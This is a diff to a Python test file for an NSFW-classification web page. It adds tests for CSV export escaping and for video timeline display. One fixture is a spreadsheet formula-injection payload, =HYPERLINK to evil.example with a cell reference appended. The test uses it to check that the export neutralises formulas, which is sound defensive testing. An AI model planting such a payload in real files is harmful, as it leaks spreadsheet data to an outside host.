@@ -11,6 +11,7 @@ from __future__ import annotations
 import io
 import json
 import re
+from typing import Any
 from urllib.parse import quote
 
 import numpy as np
@@ -189,6 +190,17 @@ def test_uploads_and_downloads(page_env, media):
     assert "curl -XPOST --data-binary @glasses.jpg -H 'Content-Type: image/jpeg' 'http://localhost:8080/predict'" in code
 
 
+def test_the_csv_download_writes_a_formula_name_as_text(page_env, media):
+    """Issue 29, point 7: an upload named =HYPERLINK(...) went verbatim into the results CSV (a formula)."""
+    import csv as csv_module
+
+    name = '=HYPERLINK("https://evil.example/?"&A1,"x").jpg'
+    at = classify(new_page(), uploads=[(name, (REFERENCE / "glasses.jpg").read_bytes(), "image/jpeg")])
+    buttons = {b.key: b for b in at.get("download_button")}
+    (row,) = csv_module.DictReader(io.StringIO(media(buttons["download_csv"].proto.url).decode()))
+    assert row["source"] == "'" + name and float(row["drawings"]) >= 0  # the scores stay numbers
+
+
 def test_an_animation_shows_its_frames_blurred_with_the_deciding_one_marked(page_env, media):
     page_env.setenv("NSFW_SAFE_THRESHOLD", "0.99999")  # nothing is definitely safe: previews blurred
     frames = [Image.open(ROOT / "data" / "demo" / "photos" / name).convert("RGB").resize((96, 96))
@@ -282,7 +294,7 @@ def test_empty_submit_asks_for_input(page_env):
 
 
 def test_curl_box_uses_the_browser_url_and_api_key(page_env):
-    page_env.setenv("NSFW_API_KEYS", "secret-key")
+    page_env.setenv("NSFW_API_KEYS", "secret-key-0123456789")
     anonymous = AppTest.from_file(str(PAGE), default_timeout=TIMEOUT).run()
     assert not anonymous.code and "needs signing in" in anonymous.warning[0].value  # a keyed API: no public page
     at = signed_in(AppTest.from_file(str(PAGE), default_timeout=TIMEOUT), REVIEWER)
@@ -326,3 +338,36 @@ def test_api_base_url_and_curl():
         "curl -XPOST 'http://h/predict?url=http%3A%2F%2Fa.example%2Fx%20y.jpg%3Fa%3D1%26b%3D%272%27'",
         "curl -XPOST --data-binary '@my pic.png' -H 'Content-Type: image/png' 'http://h/predict'",
     ]
+
+
+@pytest.mark.slow
+def test_a_video_shows_its_timeline_and_each_segments_deciding_frame_blurred(page_env, media):
+    from tests.helpers import videos
+
+    page_env.setenv("NSFW_SAFE_THRESHOLD", "0.99999")  # nothing is definitely safe: frames blurred
+    clip = videos.make("mp4", "h264", seconds=4, fps=10, size=(160, 120), hold=2.0)
+    at = classify(new_page(), uploads=[("clip.mp4", clip, "video/mp4")])
+    [row] = at.session_state["classify_results"]["rows"]
+    c = row["classification"]
+    assert c is not None and c.video is not None and len(c.frames) == 4 and c.segments
+    # the Altair timeline: the segments shaded and the scores of every sampled frame over time
+    charts = [json.loads(chart.proto.spec) for chart in at.get("vega_lite_chart")]
+    def marks(spec: dict[str, Any]) -> list[str]:
+        return [layer["mark"]["type"] if isinstance(layer["mark"], dict) else layer["mark"]
+                for layer in spec.get("layer", [])]
+
+    assert [marks(spec) for spec in charts if marks(spec) == ["rect", "line", "rule"]], [marks(s) for s in charts]
+    captions = " ".join(cap.value for cap in at.caption)
+    assert "4 frames judged" in captions and "deciding frame" in captions
+    # each segment's deciding frame, blurred until revealed
+    deciding = row["deciding"]
+    assert [f["verdict"] for f in deciding] == [s.verdict for s in c.segments]
+    shown = [img for img in at.image if any(cap.endswith(" s") for cap in img.captions)]
+    assert len(shown) == len(deciding)
+    first = np.asarray(Image.open(io.BytesIO(media(shown[0].value[0]))).convert("RGB"), dtype=np.float32)
+    near = {k: np.abs(first - np.asarray(deciding[0][k], dtype=np.float32)).mean() for k in ("image", "blurred")}
+    assert near["blurred"] < near["image"]
+    at.toggle(key="reveal_0").set_value(True).run()
+    shown = [img for img in at.image if any(cap.endswith(" s") for cap in img.captions)]
+    first = np.asarray(Image.open(io.BytesIO(media(shown[0].value[0]))).convert("RGB"), dtype=np.float32)
+    assert np.abs(first - np.asarray(deciding[0]["image"], dtype=np.float32)).mean() < near["image"]
